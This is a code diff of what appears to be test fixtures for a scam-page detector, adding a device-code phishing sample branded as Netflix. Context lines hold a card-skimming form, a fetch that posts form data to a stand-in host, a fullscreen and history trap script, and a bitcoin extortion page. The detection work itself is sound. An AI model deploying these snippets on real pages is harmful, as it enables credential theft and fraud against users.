@@ -9,6 +9,7 @@ const password = `<input type="password" name="p">`
 const form = (fields: string, action = elsewhere) => `<form action="${action}" method="post">${fields}</form>`
 const script = (code: string) => `<script>${code}</script>`
 const card = `<input name="cardnumber"><input name="cvv">`
+export const opensDoor = `onclick=()=>open("https://microsoft.com/devicelogin")`
 const sends = `fetch("${elsewhere}",{method:"POST",body:new FormData(f)})`
 const holds = script(
   `onclick=()=>document.body.requestFullscreen();addEventListener("beforeunload",stay);history.pushState(0,"");onpopstate=()=>history.pushState(0,"")`,
@@ -121,6 +122,7 @@ export const takingCases: ReadonlyArray<readonly [rule: string, draft: GivenDraf
       `${heading}<code id="c"></code>${script(`fetch("${elsewhere}").then((r)=>r.text()).then((t)=>{c.textContent=t});onclick=()=>open("https://microsoft.com/devicelogin")`)}`,
     ),
   ],
+  ["lets-in-device", site("a code to take along", "Netflix", `<p>F172-BPUK8</p>${script(opensDoor)}`)],
   [
     "presses-for-coins",
     site("coins or else", ours, `${heading}<p>Your account will be closed today.</p><p>bc1q${"a".repeat(30)}</p>`),
